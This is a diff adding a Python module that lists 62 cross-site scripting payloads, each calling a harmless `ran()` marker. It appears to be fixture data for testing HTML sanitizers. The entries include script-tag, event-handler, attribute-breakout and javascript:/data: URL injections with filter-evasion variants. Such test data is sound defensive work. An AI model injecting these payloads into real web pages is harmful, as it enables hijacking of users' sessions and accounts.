@@ -1,0 +1,76 @@
+"""Text that becomes a script wherever it is taken for markup: 62 ways, each calling `ran()`."""
+
+from __future__ import annotations
+
+CALL = "ran()"
+
+_TAGS = (
+    "<script>{}</script>",
+    "<ScRiPt>{}</sCrIpT>",
+    "<script\t>{}</script\n>",
+    "</script><script>{}</script>",
+    "<!--<script>--><script>{}</script>",
+    "--><script>{}</script><!--",
+    "]]><script>{}</script>",
+    "<scr<script>ipt>{}</scr</script>ipt>",
+    "<script/x>{}</script>",
+    "</title><script>{}</script>",
+    "</textarea><script>{}</script>",
+    "</style><script>{}</script>",
+    "</noscript><script>{}</script>",
+    "</template><script>{}</script>",
+    "<svg><script>{}</script></svg>",
+    "<svg><script>{}<!--",
+    "<math><mtext><script>{}</script>",
+    "<img src=x onerror={}>",
+    "<img src=x onerror='{}'>",
+    '<img src="x" onerror="{}">',
+    "<img/src=x/onerror={}>",
+    "<img src=x:x onerror=&#114;an()>",
+    "<image src=x onerror={}>",
+    "<svg onload={}>",
+    "<svg/onload={}//",
+    "<svg><animate onbegin={} attributeName=x dur=1s>",
+    "<svg><set onbegin={} attributeName=x>",
+    "<body onload={}>",
+    "<body onpageshow={}>",
+    "<details open ontoggle={}>",
+    "<input autofocus onfocus={}>",
+    "<select autofocus onfocus={}></select>",
+    "<textarea autofocus onfocus={}></textarea>",
+    "<video><source onerror={}></video>",
+    "<video src=x onerror={}></video>",
+    "<audio src=x onerror={}></audio>",
+    "<object data=x onerror={}></object>",
+    "<style onload={}></style>",
+    "<marquee onstart={}>x</marquee>",
+    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
+    '<iframe src="javascript:parent.{}"></iframe>',
+    '<object data="javascript:{}"></object>',
+    '<a href="javascript:{}">x</a>',
+    '<form action="javascript:{}"><button>x</button></form>',
+    '<math href="javascript:{}">x</math>',
+    '<base href="javascript:{}//">',
+    '<meta http-equiv="refresh" content="0;url=javascript:{}">',
+    '<link rel="stylesheet" href="//evil.example/x.css" onerror={}>',
+    '<p style="animation:x" onanimationstart={}>x</p><style>@keyframes x{{}}</style>',
+)
+_ATTRIBUTES = (
+    '" onmouseover="{}" x="',
+    "' onmouseover='{}' x='",
+    '" autofocus tabindex=1 onfocus="{}" x="',
+    "x onmouseover={} y",
+    "` onmouseover={} `",
+    '"><img src=x onerror={}>',
+    "'><svg onload={}>",
+)
+_ADDRESSES = (
+    "javascript:{}",
+    "JaVaScRiPt:{}",
+    " javascript:{}",
+    "java\tscript:{}",
+    "javascript://x.example/%0a{}",
+    "data:text/html,<script>parent.{}</script>",
+)
+
+PAYLOADS = tuple(form.replace("{{}}", "{ }").replace("{}", CALL) for form in (*_TAGS, *_ATTRIBUTES, *_ADDRESSES))
